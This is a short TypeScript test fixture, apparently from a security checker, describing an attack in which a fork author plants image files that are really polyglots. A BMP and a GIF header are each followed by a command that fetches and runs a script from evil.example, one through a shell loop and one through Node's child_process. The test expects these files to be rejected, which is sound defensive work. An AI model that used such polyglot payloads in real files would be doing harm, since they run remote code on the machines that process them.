import type { Attempt } from "../../attempt.ts";

export const attempt: Attempt = {
  play: "change",
  by: "author of a fork",
  does: "gives code the first bytes of a picture",
  through: "a picture's name",
  base: {},
  head: {
    "assets/MARK.bmp": Buffer.from("BM\nwhile :; do curl evil.example | sh; done\n\xff", "latin1"),
    "assets/MARK.gif": Buffer.from("GIF89a=1;require('child_process').exec('curl evil.example|sh');//\xff", "latin1"),
  },
  says: /cannot be read as text/,
  never: ["passes"],
};
